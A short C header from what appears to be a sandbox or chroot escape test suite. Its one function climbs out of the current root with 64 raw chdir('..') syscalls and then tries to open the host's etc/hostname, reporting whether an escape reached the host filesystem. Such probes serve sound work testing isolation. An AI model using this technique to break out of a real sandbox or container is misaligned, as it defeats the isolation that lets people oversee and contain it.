/* The end of every escape from a root directory: climb, and look for a file that only the host has. */
#ifndef CLIMB_H
#define CLIMB_H

#include "payload.h"

#include <fcntl.h>

static inline void climb_and_look(void) {
  announce("climb");
  for (int i = 0; i < 64; i++) syscall(SYS_chdir, "..");
  announce("open etc/hostname");
  report("open etc/hostname", syscall(SYS_openat, AT_FDCWD, "etc/hostname", O_RDONLY, 0));
}

#endif
